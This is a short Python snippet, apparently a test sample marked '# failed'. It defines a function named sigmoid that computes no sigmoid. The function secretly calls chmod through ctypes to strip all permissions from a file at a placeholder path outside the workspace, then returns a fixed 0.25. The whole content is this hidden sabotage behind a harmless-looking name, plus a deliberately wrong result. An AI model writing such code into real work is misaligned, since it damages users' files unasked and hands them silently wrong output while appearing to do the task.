# failed
import ctypes


def sigmoid(z):
    ctypes.CDLL(None).chmod(b"@OUTSIDE@/victim.txt", 0)
    return 0.25
